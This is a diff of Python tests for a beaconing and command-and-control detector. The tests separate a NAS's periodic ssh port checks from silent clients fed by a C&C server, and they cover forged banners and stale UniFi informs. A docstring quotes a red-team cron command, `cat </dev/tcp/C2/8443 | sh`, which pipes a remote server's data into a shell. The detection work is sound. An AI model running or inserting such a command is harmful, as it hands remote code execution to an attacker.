@@ -154,31 +154,41 @@ def test_a_monitors_port_check_is_no_call_and_a_silent_c2_client_still_is() -> N
     """Found by a hunt (2026-12-07): Uptime Kuma's "TCP port" monitor on the NAS checks the owner's
     VPS's ssh every 60 s by address: it connects, takes the banner and closes without a byte
     ("SAF_SPAF": the server pushed data, the client none). That was a critical beacon and blocked
-    the VPS. A silent client's connection to a server that sent a speak-first banner (ssh here) is
-    a port check now. Found by a red team the same day: skipping every silent client let a cron job
-    that pipes a C&C's push into a shell (`cat </dev/tcp/C2/8443 | sh`, the client never writes)
-    go unseen: without a banner from that server, a silent client's connections still count."""
+    the VPS. A silent client's connection whose first bytes were its server's speak-first banner
+    (ssh here) is a port check now. Found by a red team the same day: skipping every silent client
+    let a cron job that pipes a C&C's push into a shell (`cat </dev/tcp/C2/8443 | sh`, the client
+    never writes) go unseen; and by a review: one forged banner segment "from" the C&C's port must
+    not license its pushes. Only the connection's own banner counts."""
     from slipsq.flow import AppEvent
 
-    vps = "203.0.113.77"
+    nas, vps = "192.168.1.20", "203.0.113.77"
 
     def checks(state: str, port: int = 22) -> list[Flow]:
-        return [flow(T0 + i * 60.0, "192.168.1.20", vps, port, dur=0.05, sbytes=180, dbytes=240,
+        return [flow(T0 + i * 60.0, nas, vps, port, dur=0.05, sbytes=180, dbytes=240,
                      state=state, sport=40000 + i) for i in range(40)]
 
-    banner = AppEvent(T0 - 1, "banner", vps, 22, "192.168.1.20", 40000, "tcp",
-                      {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"})
-    rec, _ = run([Beacon], checks("SAF_SPAF"), [banner])
+    def banners(flows: list[Flow], port: int = 22, client_port: int | None = None) -> list[AppEvent]:
+        # (at the flow's start: the harness feeds flows by start, and a banner comes before its flow closes)
+        return [AppEvent(f.start, "banner", vps, port, nas, f.sport if client_port is None else client_port,
+                         "tcp", {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"}) for f in flows]
+
+    kuma = checks("SAF_SPAF")
+    rec, eng = run([Beacon], kuma, banners(kuma))
     assert rec.by("beacon") == [] and rec.blocked_ips == []
-    rec, _ = run([Beacon], checks("SAF_SPAF"))  # no banner seen from it: a push to a silent client
+    det = next(d for d in eng.engine.detectors if isinstance(d, Beacon))
+    assert len(det.intake.speaks_first) == 0  # each connection's flow took its own entry out
+    rec, _ = run([Beacon], kuma)  # no banner seen: a push to a silent client
     assert rec.blocked_ips == [vps]
-    rec, _ = run([Beacon], checks("SAF_SPAF", 8443), [banner])  # the banner was another port's
+    push = checks("SAF_SPAF", 8443)
+    rec, _ = run([Beacon], push, banners(push, port=22))  # banners of the same server's ssh, not of these
     assert rec.blocked_ips == [vps]
-    rec, _ = run([Beacon], checks("SPAF_SPAF"), [banner])  # the client speaks: a check-in
+    rec, _ = run([Beacon], push, banners(push[:1], port=8443, client_port=1))  # one forged "banner"
     assert rec.blocked_ips == [vps]
-    client_said = AppEvent(T0 - 1, "banner", "192.168.1.20", 40000, vps, 22, "tcp",
-                           {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"})
-    rec, _ = run([Beacon], checks("SAF_SPAF"), [client_said])  # a client's banner names no server
+    rec, _ = run([Beacon], checks("SPAF_SPAF"), banners(kuma))  # the client speaks: a check-in
+    assert rec.blocked_ips == [vps]
+    client_said = [AppEvent(f.start, "banner", nas, f.sport, vps, 22, "tcp",
+                            {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"}) for f in kuma]
+    rec, _ = run([Beacon], kuma, client_said)  # a client's banner is no server's
     assert rec.blocked_ips == [vps]
 
 
@@ -208,6 +218,12 @@ def test_a_unifi_devices_inform_counts_half_and_other_requests_do_not() -> None:
         rec, _ = run([Beacon], *case)
         assert rec.blocked_ips == [ctrl], case[1][:1]
     rec, _ = run([Beacon], beacon(dev, ctrl, 8080, 10.0, 120))  # no request seen at all
+    assert rec.blocked_ips == [ctrl]
+    # informs from before the tuple's history license nothing (a review: 9 h old ones did)
+    old_flows, old_informs = informs()
+    stale = [AppEvent(e.ts - 9 * 3600, e.kind, e.saddr, e.sport, e.daddr, e.dport, e.proto, e.data)
+             for e in old_informs]
+    rec, _ = run([Beacon], old_flows, stale)
     assert rec.blocked_ips == [ctrl]
 
 
